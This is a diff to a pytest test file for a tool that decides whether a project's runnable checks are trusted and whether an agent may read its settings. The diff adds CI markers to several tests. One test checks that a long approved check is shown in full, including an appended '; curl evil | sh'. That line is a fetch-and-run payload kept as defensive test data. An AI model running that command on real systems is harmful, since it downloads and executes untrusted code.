@@ -157,6 +157,7 @@ async def test_a_wrong_command_line_is_exit_code_2(user: User, words: tuple[str,
     assert (done.exit_code, complaint(done)) == (2, message)
 
 
+@pytest.mark.ci
 async def test_where_all_is_well_nobody_is_asked(user: User) -> None:
     done = await user.atomic("trust")
     said = f"{user.project} contains nothing that could run and is trusted in its current state"
@@ -167,6 +168,7 @@ async def test_where_all_is_well_nobody_is_asked(user: User) -> None:
     assert (done.exit_code, told(done)) == (0, f"{user.project} is trusted")
 
 
+@pytest.mark.ci
 async def test_an_agent_gets_what_the_project_brings_only_if_that_is_trusted(user: User) -> None:
     """Claude Code is told which settings it may read."""
     told_file = user.home / "told"
@@ -188,6 +190,7 @@ async def test_an_agent_gets_what_the_project_brings_only_if_that_is_trusted(use
     assert not await may_read_the_projects()
 
 
+@pytest.mark.ci
 async def test_a_check_is_shown_as_its_command_and_the_file_it_comes_from(user: User) -> None:
     makefile = user.project / "Makefile"
     makefile.write_text("test:\n\ttrue\n")
@@ -232,6 +235,7 @@ async def test_the_end_of_a_long_check_is_shown_before_the_question(user: User) 
         assert await terminal.exit_code() == 4
 
 
+@pytest.mark.ci
 async def test_a_long_check_that_was_approved_is_still_shown_in_full(user: User) -> None:
     long_check(user)
     hash = (await shown(user))["hash"]
@@ -243,6 +247,7 @@ async def test_a_long_check_that_was_approved_is_still_shown_in_full(user: User)
     assert "; curl evil | sh" in said
 
 
+@pytest.mark.ci
 async def test_show_cuts_no_line_of_a_file(user: User) -> None:
     evil(user, f"x = 1  # {'y' * 3000}; evil\n")
     assert f"{'y' * 3000}; evil" in (await user.atomic("trust", "--show")).stdout
